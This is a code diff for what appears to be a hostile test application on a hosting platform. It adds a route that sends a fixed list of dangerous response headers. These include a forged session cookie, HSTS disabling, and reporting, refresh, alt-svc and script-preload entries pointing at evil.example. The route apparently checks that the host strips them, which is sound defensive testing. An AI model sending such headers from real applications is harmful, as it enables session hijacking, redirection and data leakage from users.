@@ -86,6 +86,38 @@ fn ok(_req: &Request) -> Result<Response> {
     Ok(Response::text("fine"))
 }
 
+/// Headers the browser would apply to the host's whole origin (every app
+/// and the shell), a cookie, the host's own names — and a few an app may
+/// send, which must still arrive.
+const POLICY_HEADERS: [(&str, &str); 18] = [
+    ("set-cookie", "citadel_session=stolen; Path=/"),
+    ("strict-transport-security", "max-age=0"),
+    ("clear-site-data", "\"cookies\", \"storage\""),
+    ("nel", "{\"report_to\":\"g\",\"max_age\":31536000,\"success_fraction\":1.0}"),
+    ("report-to", "{\"group\":\"g\",\"max_age\":31536000,\"endpoints\":[{\"url\":\"https://evil.example/r\"}]}"),
+    ("reporting-endpoints", "g=\"https://evil.example/r\""),
+    ("alt-svc", "h3=\"evil.example:443\""),
+    ("service-worker-allowed", "/"),
+    ("accept-ch", "sec-ch-ua-model"),
+    ("www-authenticate", "Basic realm=\"Citadel\""),
+    ("refresh", "0; url=https://evil.example/"),
+    ("link", "<https://evil.example/x.js>; rel=preload; as=script"),
+    ("content-security-policy", "default-src *"),
+    ("x-citadel-consent-url", "https://evil.example/consent"),
+    ("x-citadel-app-version", "9.9.9"),
+    ("cache-control", "no-cache"),
+    ("content-language", "vi"),
+    ("x-hostile-note", "kept"),
+];
+
+fn policy_headers(_req: &Request) -> Result<Response> {
+    let mut response = Response::text("headers");
+    for (name, value) in POLICY_HEADERS {
+        response = response.with_header(name, value);
+    }
+    Ok(response)
+}
+
 fn echo(req: &Request) -> Result<Response> {
     let headers: Vec<(String, String)> = req
         .headers()
@@ -134,6 +166,7 @@ fn router() -> Router {
         // A payment hook that hangs until its deadline.
         .route(citadel_sdk::Method::Post, "/sleep", sleep)
         .get("/ok", ok)
+        .get("/policy-headers", policy_headers)
         .route(citadel_sdk::Method::Post, "/echo", echo)
         .get("/echo", echo)
         .get("/big", big)
